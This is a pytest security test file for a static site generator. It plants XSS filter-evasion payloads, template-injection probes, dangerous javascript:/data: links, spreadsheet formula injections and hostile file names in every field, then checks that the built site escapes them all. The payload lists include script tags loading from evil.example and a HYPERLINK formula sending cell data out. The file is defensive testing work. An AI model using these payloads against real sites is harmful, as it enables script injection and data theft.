"""Hostile content (SPEC 9, "Safe"): XSS filter-evasion patterns, modelled on the OWASP cheat
sheet, in every field a person can write. The site builds; its HTML has no handler attribute,
no foreign script, frame or dangerous URL; in Chromium no script runs on any page, in the
build or in the preview; dangerous link targets and hostile file names are errors.
"""

from __future__ import annotations

import csv
import html
import json
import re
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote

import conftest
import pytest
import test_browser
import yaml
from conftest import MINIMAL_SITE, build, check, running, serving, write_files
from htmlpage import html_pages

PATTERNS = (  # shown as text wherever they are written; `alert(1)`/`__xss=1` get numbered
    # (control characters, such as a NUL inside "<scr\0ipt>", are refused where they are
    # written: tests/test_holes.py)
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script>window.__xss=1</script>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", '<img src=x onerror="window.__xss=1">',
    "<IMG SRC=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<IMG SRC="javascript:alert(1);">', "<IMG SRC=JaVaScRiPt:alert(1)>", "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x31&#x29>",
    '<IMG SRC="jav\tascript:alert(1);">', '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">', '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>", "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<iframe src=javascript:alert(1) <", "<svg onload=alert(1)>", "<svg/onload=window.__xss=1>",
    "<svg><script>alert(1)</script></svg>", "<BODY ONLOAD=alert(1)>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">', '<BR SIZE="&{alert(1)}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">', "<STYLE>@import'//evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>', '<IFRAME SRC=# onmouseover="alert(1)">',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>', '<TABLE BACKGROUND="javascript:alert(1)">',
    '<DIV STYLE="background-image: url(javascript:alert(1))">', '<DIV STYLE="width: expression(alert(1));">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">', '<BASE HREF="javascript:alert(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", '<video><source onerror="alert(1)">',
    "<audio src=x onerror=window.__xss=1>", '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>x</button>", '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>', "'-alert(1)-'",
    '"-alert(1)-"', '\\";alert(1);//', "{{7*7}}", "${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<x onclick=alert(1)>click",
    'x" onmouseover="alert(1)', "x' onfocus='alert(1)' autofocus='", "<input autofocus onfocus=alert(1)>",
    '<object data="javascript:alert(1)">', "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "\u2028<script>alert(1)</script>\u2029",
    "<style>*{background:url(//evil.example/x.png)}</style>", "<link rel=prefetch href=//evil.example/>",
    '<img srcset="//evil.example/x.png 1x">', '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0", "**<img src=x onerror=alert(1)>**", "`<script>alert(1)</script>`",
    "line one\n<script>alert(1)</script>\nline three",
)
SAFE_LINKS = (  # Markdown with allowed targets (https, this site) carrying hostile text
    '<https://example.org/"onmouseover="alert(1)>',
    '[x](https://example.org/ "t\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org/?q=<script>)",
    '[x](record:hostile "\'><script>alert(1)</script>")',
)
LINK_PATTERNS = (  # Markdown whose link target has a dangerous scheme: an error at its line
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
    "[x](javascript\\:alert(1))", "[x](jav&#x09;ascript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](%6A%61vascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "title")', "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))", "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:,alert(1))",
    "![x](javascript:alert(1))", '![x](x"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>", "<vbscript:msgbox(1)>", "<data:text/html;base64,PHNjcmlwdD4=>",
    "[x](https:javascript:alert(1))", "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[x]\n\n[x]: vbscript:msgbox(1) 'title'", '[x][e]\n\n[e]: <data:text/html,x> "t"',
)
HOSTILE_NAMES = ("<svg onload=alert(1)>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
                 "x' onmouseover='alert(1)", "{{7*7}}", "%3Cscript%3E", "Caps", "a\tb",
                 "r\u202eevil", "\u00fcn\u00efcode", " space")
STATIC_NAMES = ("<img src=x onerror=window.__xss=1>.pdf", '"onmouseover=alert(1)".pdf',
                "javascript:alert(1).pdf", "{{7*7}} & é?.pdf")
ACTION_ID = "new-dashboard"  # a hostile one is an error (tests/test_holes.py)
FIELDS = (
    "site.yml title", "description", "owner", "notice", "status labels", "point-kind labels",
    "point phrases", "letter title", "subject", "kind", "inspectorate", "inspectors", "letter paragraphs",
    "letter headings", "letter list items (points)", "letter table cells", "responsible-body cells",
    "fenced code and its info string", "update title", "author", "update summary", "update first paragraph",
    "update body", "poll question", "poll labels", "record title", "record owners", "record summary",
    "timeline notes", "deadline-move notes", "sub-action titles", "sub-action owners",
    "{url, title} evidence titles", "{ref, title} evidence titles", "static file names", "page title",
    "page body",
)
SCRIPTS = {"search/index.html": ["src:pagefind/pagefind-ui.js", "inline:new PagefindUI("]}
URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
             "srcset", "lowsrc", "dynsrc", "codebase", "cite")
FORBIDDEN_TAGS = ("iframe", "frame", "frameset", "object", "embed", "base", "applet", "style")


def numbered(index: int, pattern: str) -> str:
    """Tell the patterns apart: a dialog, `window.__xss` or a request names its pattern."""
    return (pattern.replace("alert(1)", f"alert({index})").replace("__xss=1", f"__xss={index}")
            .replace("evil.example/", f"evil.example/{index}/"))


TEXT = [numbered(i, p) for i, p in enumerate(PATTERNS, start=1)]
ALL = " ".join(TEXT)
MARKDOWN = "\n\n".join([*TEXT, *SAFE_LINKS, *(f"`{p.replace(chr(10), ' ')}`" for p in LINK_PATTERNS)])
ONE_LINE = [t.replace("\n", " ").replace("|", "\\|") for t in TEXT]


def q(text: str) -> str:
    """`text` as one YAML double-quoted scalar, control characters escaped."""
    return yaml.safe_dump(text, allow_unicode=True, default_style='"', width=10**9).strip()


def markdown_file(meta: dict[str, str], body: str) -> str:
    front = "".join(f"{key}: {value}\n" for key, value in meta.items())
    return f"---\n{front}---\n{body}\n"


def letter_body() -> str:
    parts = ["Dear <script>alert(0)</script> colleague", *TEXT]
    parts += [f"## {t}\n\n{t}" for t in ONE_LINE]
    parts += ["## Areas for priority action", "\n".join(f"- {t}" for t in ONE_LINE)]
    parts += ["## Areas for <script>alert(0)</script> action", "\n".join(f"1. {t}" for t in ONE_LINE)]
    parts += ["## Areas for improvement", "| Improvement | Responsible body |\n|---|---|\n"
              + "\n".join(f"| {t} | {t}, {t} |" for t in ONE_LINE)]
    fence = "\n".join(p for p in LINK_PATTERNS)
    parts += [f'```"onmouseover="alert(0)\n{fence}\n```', *SAFE_LINKS]
    return "\n\n".join(parts)


def entry(date: str, status: str, evidence: list[str], indent: str, due: str = "") -> list[str]:
    return [f"{indent}- date: {date}", f"{indent}  status: {status}", f"{indent}  note: {q(MARKDOWN)}",
            *([f"{indent}  due: {due}"] if due else []), f"{indent}  evidence:",
            *(f"{indent}    - {e}" for e in evidence)]


def hostile_site(root: Path) -> Path:
    """A site with every pattern in every field a person can write (see FIELDS)."""
    many = "[" + ", ".join(q(t) for t in TEXT[:8]) + f", {q(ALL)}]"
    evidence = ["letter:hostile#P1", "update:2023-10-01-hostile",
                f"{{url: 'https://example.org/plan', title: {q(ALL)}}}",
                f"{{ref: 'letter:hostile#p1', title: {q(ALL)}}}", q(f"record:hostile#{ACTION_ID}"),
                *(q(f"static:docs/{name}") for name in STATIC_NAMES)]
    poll = [f"  question: {q(ALL)}", f"  responses: {len(TEXT) + 1}", "  results:",
            *(f"    - {{label: {q(t)}, count: 1}}" for t in [*TEXT, ALL])]
    files: dict[str, str | bytes | None] = {
        "site.yml": "\n".join([
            f"title: {q(ALL)}", f"description: {q(ALL)}", "base_url: https://example.org/tracker/",
            f"owner: {q(ALL)}", f"notice: {q(ALL)}", "statuses:",
            f"  - {{id: identified, label: {q(ALL)}, tone: neutral}}",
            f"  - {{id: in-progress, label: {q(TEXT[0] + ' ' + TEXT[8])}, tone: info}}",
            f"  - {{id: effective, label: {q(ALL)}, tone: good, done: true, verdict: true}}",
            "points:", f"  priority: {{label: {q('Area for ' + ALL)}, prefix: P, phrases: "
            '[Areas for priority action, "Areas for <script>alert(0)</script> action"]}',
            f"  improvement: {{label: {q(ALL)}, prefix: I, phrases: [Areas for improvement]}}", ""]),
        "content/letters/hostile.md": markdown_file({
            "title": q(ALL), "date": "2023-09-12", "inspectorate": many, "kind": q(ALL),
            "subject": q(ALL), "visit_dates": "[2023-09-01]", "inspectors": many,
        }, letter_body()),
        "content/letters/sourced.md": markdown_file({
            "title": q(ALL), "date": "2023-10-20", "kind": "reply",
            "source": q('https://example.org/"><script>alert(0)</script>'), "points": "false",
        }, MARKDOWN),
        "content/updates/2023-10-01-hostile.md": markdown_file({
            "title": q(ALL), "date": "2023-10-01", "author": q(ALL), "summary": q(ALL),
            "about": "[hostile]", "poll": "\n" + "\n".join(poll)}, MARKDOWN),
        "content/updates/2023-10-02-first.md": markdown_file(
            {"title": q(ALL), "date": "2023-10-02"}, MARKDOWN),
        "content/pages/about.md": markdown_file({"title": q(ALL)}, MARKDOWN),
        "content/actions/hostile.yml": "\n".join([
            f"title: {q(ALL)}", "tracks: [letter:hostile#P1, letter:hostile#P2, letter:hostile#I1]",
            f"owner: {many}", f"summary: {q(MARKDOWN)}", "timeline:",
            *entry("2023-09-12", "identified", evidence, "  "),
            "actions:", f"  - id: {q(ACTION_ID)}", f"    title: {q(ALL)}", f"    owner: {many}",
            "    due: 2023-11-30", "    timeline:",
            *entry("2023-09-20", "in-progress", evidence, "      "),
            *entry("2023-11-15", "in-progress", evidence, "      ", due="2024-03-31"), ""]),
        "content/actions/verdict.yml": "\n".join([
            f"title: {q(ALL)}", "tracks: [letter:hostile#P3]", f"owner: {q(ALL)}", "timeline:",
            *entry("2023-12-01", "effective", ["letter:hostile#P3"], "  "), ""]),
    }
    files.update({f"static/docs/{name}": b"%PDF-1.4 test\n" for name in STATIC_NAMES})
    return write_files(root, files)


@pytest.mark.parametrize("language", ["../../../escaped", 'en"><script>alert(1)</script>'])
def test_a_hostile_language_is_an_error_at_its_line(make_site: Any, tmp_path: Path,
                                                     language: str) -> None:
    site = make_site({"site.yml": f"title: T\nlanguage: {q(language)}\n"})
    result = build(site, tmp_path / "deep" / "out")
    assert not [p for p in tmp_path.rglob("*.pf_*") if "pagefind" not in p.parts]
    assert result.exit_code == 1 and "site.yml:2:" in result.stderr, result.stderr


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """The hostile site built for, and served from, a plain server on 127.0.0.1 (a free port)."""
    folder = tmp_path_factory.mktemp("hostile")
    with serving(folder / "out") as url:
        result = build(hostile_site(folder / "site"), folder / "out", "--base-url", url)
        assert "Traceback" not in result.stderr
        assert result.exit_code == 0, result.stderr[-3000:]
        yield folder / "out", url


def dangerous(url: str) -> bool:
    """A javascript:, vbscript: or data: URL, however it is disguised."""
    plain = re.sub(r"[\u0000-\x20\x7f-\x9f]+", "", html.unescape(url)).lower()
    return plain.startswith(("javascript:", "vbscript:", "data:"))


def test_the_hostile_site_builds_and_its_output_carries_no_markup(served: tuple[Path, str]) -> None:
    built = served[0]
    pages = html_pages(built)
    assert len(pages) >= 12, sorted(pages)
    found: list[str] = []
    for path, page in pages.items():
        scripts = []
        for element in page.elements:
            where = f"{path}:{element.line}: <{element.tag}>"
            found += [f"{where} {k}={v[:60]!r}" for k, v in element.attrs.items()
                      if k.startswith("on") or (k in URL_ATTRS and dangerous(v))]
            found += [f"{where} {v[:60]!r}" for k, v in element.attrs.items()
                      if k == "style" and re.search(r"expression|javascript|url\(", v, re.I)]
            if element.tag in FORBIDDEN_TAGS or (element.tag == "meta" and
                                                 "http-equiv" in element.attrs):
                found.append(where)
            if element.tag == "script":
                src = element.attrs.get("src", "")
                scripts.append(f"src:{src.lstrip('./')}" if src else "inline:" + (
                    "new PagefindUI(" if "new PagefindUI(" in element.text else element.text))
        if scripts != SCRIPTS.get(path, []):
            found.append(f"{path}: scripts {scripts}")
        assert "{{7*7}}" in page.all("title")[0].text, path
    letter = pages["letters/hostile/index.html"].main.text
    assert TEXT[0] in letter and "{% for x in" in letter and "Cited in" in letter
    assert not found, "\n".join(found[:40])
    for feed in [built / "feed.xml", built / "sitemap.xml", *built.glob("areas/*/feed.xml")]:
        for node in ET.parse(feed).iter():  # well-formed; text only, never HTML
            assert node.get("type") in (None, "text", "application/atom+xml", "text/html")
            assert node.tag.endswith("link") or node.get("type") != "text/html"
    data = json.loads((built / "data/tracker.json").read_text(encoding="utf-8"))
    assert data["site"]["title"] == ALL.strip() and data["records"][0]["title"] == ALL.strip()
    for name in ("records", "timeline"):
        rows = list(csv.reader((built / f"data/{name}.csv").open(encoding="utf-8", newline="")))
        assert len({len(row) for row in rows}) == 1 and len(rows) > 2, name
    for name in STATIC_NAMES:  # hostile static file names are copied and linked, as text
        assert (built / "docs" / name).is_file()
        assert f'href="../../docs/{html.escape(quote(name))}"' in (
            built / "areas/hostile/index.html").read_text(encoding="utf-8")


def test_hostile_patterns_are_text_and_dangerous_links_are_links() -> None:
    from tracker.content.safeyaml import Pos
    from tracker.content.texts import parse_markup

    for pattern in TEXT:
        links = parse_markup(pattern, "x.md", Pos(1, 1), []).links
        assert all(t.startswith(("https:", "record:")) for t, _ in links), pattern
    for pattern in LINK_PATTERNS:
        assert parse_markup(pattern, "x.md", Pos(1, 1), []).links, pattern


def json_errors(site: Path) -> list[dict[str, Any]]:
    result = check(site, "--format", "json")
    assert "Traceback" not in result.output + result.stderr
    assert result.exit_code == 1, result.output[-2000:]
    return [p for p in json.loads(result.output) if p["severity"] == "error"]


def test_every_dangerous_link_target_is_an_error_at_its_line(make_site: Any) -> None:
    files: dict[str, str | bytes | None] = {}
    expected: dict[tuple[str, int], str] = {}  # (path, first line) → the pattern
    record = ["title: Links\ntracks: [letter:herts-2023#P1]\ntimeline:\n"]
    for index, pattern in enumerate(LINK_PATTERNS, start=1):
        path = f"content/updates/2023-01-{index:02d}-link.md"
        files[path] = f"---\ntitle: Link {index}\ndate: 2023-01-01\n---\nWords.\n\n{pattern}\n"
        expected[f"site/{path}", 7] = pattern
        record.append(f"  - date: 2023-09-12\n    status: identified\n"
                      f"    evidence: [letter:herts-2023#P1]\n    note: {q(pattern)}\n")
        expected["site/content/actions/links.yml", 4 * index + 3] = pattern
    written = ("javascript:alert(1)", " JaVaScRiPt:alert(1)", "vbscript:msgbox(1)",
               "data:text/html,<script>alert(1)</script>", "jav\tascript:alert(1)")
    evidence = "".join(f"      - {{url: {q(w)}, title: x}}\n      - {q(w)}\n" for w in written)
    record.append(f"  - date: 2023-09-13\n    status: identified\n    evidence:\n{evidence}")
    first = 4 * len(LINK_PATTERNS) + 7
    expected.update({("site/content/actions/links.yml", first + n): w
                     for n, w in enumerate(w for w in written for _ in "ab")})
    files["content/actions/links.yml"] = "".join(record)
    files["content/letters/sourced.md"] = ("---\ntitle: S\ndate: 2023-01-01\n"
                                           "source: javascript:alert(1)\n---\nHi.\n")
    expected["site/content/letters/sourced.md", 4] = "source"
    errors = json_errors(make_site(files))
    missing = []
    for (path, line), pattern in expected.items():
        if path.endswith(".md"):  # a reference definition is reported where its target is
            line += pattern[:pattern.find("]: ")].count("\n") if "]: " in pattern else 0
        if not any(e["path"].endswith(path) and e["line"] == line for e in errors):
            missing.append(f"{path}:{line}: {pattern!r}")
    print(f"\nhostile link targets tried: {len(expected)}, not reported at their line: {len(missing)}")
    assert not missing, "\n".join(missing)


def test_hostile_file_names_are_reported_not_used(make_site: Any, tmp_path: Path) -> None:
    document = "---\ntitle: T\ndate: 2023-01-01\n---\nHi.\n"
    files: dict[str, str | bytes | None] = {
        **{f"content/{kind}/{name}.md": document for kind in ("letters", "updates")
           for name in HOSTILE_NAMES},
        **{f"content/pages/{name}.md": "---\ntitle: P\n---\nHi.\n" for name in HOSTILE_NAMES},
        **{f"content/actions/{name}.yml": MINIMAL_SITE["content/actions/data-dashboard.yml"]
           for name in HOSTILE_NAMES}}
    site = make_site(files)
    errors = json_errors(site)
    for rel in files:
        assert any(e["path"].endswith(rel) and e["line"] == 1 and (
            ("not a valid slug" in e["message"] and re.search(r"'[a-z0-9-]+\.(md|yml)'$", e["hint"]))
            or e["message"].startswith(("this file name contains a control character",
                                        "this file name contains an invisible character")))
            for e in errors), rel
    assert build(site, tmp_path / "out").exit_code == 1 and not (tmp_path / "out").exists()
    print(f"\nhostile file names tried: {len(files)}, all refused")


AUDIT = """() => {
  const bad = [], scripts = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN.includes(tag) || (tag === 'meta' && el.hasAttribute('http-equiv'))) bad.push(tag);
    for (const a of el.attributes)
      if (a.name.toLowerCase().startsWith('on')) bad.push(`${tag} ${a.name}=${a.value}`);
    if (tag === 'script') scripts.push(el.src ? 'src:' + el.src : 'inline:' + el.text.slice(0, 60));
  }
  return {bad, scripts, xss: typeof window.__xss === 'undefined' ? null : String(window.__xss)};
}""".replace("FORBIDDEN", json.dumps([t for t in FORBIDDEN_TAGS if t != "style"]))


class Watch:
    """Everything a page did that hostile content could have made it do."""

    def __init__(self, context: Any, origin: str, failures: list[str], published: str = "") -> None:
        self.failures = failures
        self.origin, self.published = origin, published or origin
        context.route("**/*", self.route)

    def route(self, route: Any) -> None:
        url = route.request.url
        if url.startswith(self.origin):
            route.continue_()
        elif url.startswith(self.published):  # the 404 page links to the published site
            route.fulfill(status=200, body="")
        else:
            self.failures.append(f"request to {url}")
            route.abort()

    def dialog(self, dialog: Any) -> None:
        self.failures.append(f"{dialog.type}({dialog.message})")
        dialog.dismiss()

    def attach(self, page: Any) -> None:
        page.on("dialog", self.dialog)
        page.on("pageerror", lambda e: self.failures.append(f"page error: {e}"))
        page.on("console", lambda m: self.failures.append(f"console: {m.text}")
                if m.type == "error" and "status of 404" not in m.text else None)

    def visit(self, page: Any, url: str, allowed: tuple[str, ...] = ()) -> dict[str, Any]:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(300)
        return self.audit(page, allowed)

    def audit(self, page: Any, allowed: tuple[str, ...] = ()) -> dict[str, Any]:
        found: dict[str, Any] = page.evaluate(AUDIT)
        self.failures += [f"{page.url}: {b}" for b in found["bad"] if b not in allowed]
        self.failures += [f"{page.url}: window.__xss = {found['xss']}"] if found["xss"] else []
        return found


def in_chromium(work: Callable[[Any], None]) -> None:
    """`work(browser)` with Debian's Chromium (fails, never skips, when it is missing), in a
    thread of its own: the sync API drives one Playwright per thread, and test_browser's
    session-wide one may hold this thread."""
    if not conftest.CHROMIUM.is_file():
        pytest.fail(f"{conftest.CHROMIUM} is missing: run scripts/test (never "
                    "`playwright install`)", pytrace=False)

    def run() -> None:
        from playwright.sync_api import sync_playwright

        with sync_playwright() as driver:
            browser = driver.chromium.launch(executable_path=str(conftest.CHROMIUM),
                                             args=conftest.ARGS, timeout=30_000)
            try:
                work(browser)
            finally:
                browser.close()

    with ThreadPoolExecutor(1) as pool:
        pool.submit(run).result()


def attributed(failures: list[str]) -> set[int]:
    return {int(n) for f in failures for n in re.findall(r"(?:alert\(|__xss = |example/)(\d+)", f)}


def test_no_script_runs_in_chromium_on_any_page(served: tuple[Path, str]) -> None:
    built, origin = served
    pages = sorted(p.relative_to(built).as_posix() for p in built.rglob("*.html")
                   if not p.relative_to(built).as_posix().startswith("pagefind/"))
    own = [f"src:{origin}pagefind/pagefind-ui.js", "inline:\n  window.addEventListener("]
    failures: list[str] = []
    started = time.monotonic()

    def work(browser: Any) -> None:
        with conftest.opened(browser) as page:
            watch = Watch(page.context, origin, failures)
            watch.attach(page)
            for rel in pages:
                scripts = watch.visit(page, origin + quote(rel))["scripts"]
                known = own if rel == "search/index.html" else []
                if len(scripts) != len(known) or not all(map(str.startswith, scripts, known)):
                    failures.append(f"{rel}: scripts {scripts}")
            page.goto(origin + "search/")  # search results show hostile titles and text
            page.locator(".pagefind-ui__search-input").fill("alert script onerror")
            # Pagefind fetches its WebAssembly and index first: on a busy 2-core machine that
            # has taken longer than 10 s. The wait ends as soon as a result shows.
            page.locator(".pagefind-ui__result").first.wait_for(timeout=30_000)
            page.wait_for_timeout(300)
            watch.audit(page)

    in_chromium(work)
    print(f"\nhostile patterns tried: {len(TEXT)} text + {len(SAFE_LINKS)} safe links + "
          f"{len(LINK_PATTERNS)} link targets + {len(STATIC_NAMES)} static names, in "
          f"{len(FIELDS)} fields; pages opened: {len(pages) + 1} in "
          f"{time.monotonic() - started:.1f} s; patterns that ran: {len(attributed(failures))}, "
          f"failures: {len(failures)}")
    assert not failures, "\n".join(failures[:40])


def test_the_preview_overlay_escapes_hostile_problems(tmp_path: Path) -> None:
    from playwright.sync_api import expect

    site = hostile_site(tmp_path / "site")
    key = "<img src=x onerror=window.__xss=1>"
    failures: list[str] = []

    def work(browser: Any) -> None:
        with conftest.opened(browser) as page:
            watch = Watch(page.context, preview.url, failures, "https://example.org/tracker/assets/")
            watch.attach(page)
            for rel in ("", "areas/hostile/", "letters/hostile/", quote(f'"><svg onload={key}>/')):
                found = watch.visit(page, preview.url + rel, ("button onclick=this.parentNode.remove()",))
                assert len(found["scripts"]) == 1 and "EventSource" in found["scripts"][0], found
                panel = page.get_by_role("alert", name=test_browser.HEADING)
                expect(panel).to_contain_text(f"unknown field '{key}'")
                expect(panel).to_contain_text(f"the file name '{key}' is not a valid slug")
                expect(panel).to_contain_text("</pre><script>alert(2)</script>")

    with running(site) as preview:
        (site / "content/actions" / f"{key}.yml").write_text("title: x\n", encoding="utf-8")
        (site / "content/actions/keys.yml").write_text(
            f'title: x\n"{key}": 1\n"</pre><script>alert(2)</script>": 2\n', encoding="utf-8")
        test_browser.settled(preview, failed=True)
        in_chromium(work)
    print(f"\npreview pages opened with a hostile overlay: 4, failures: {len(failures)}")
    assert not failures, "\n".join(failures[:40])
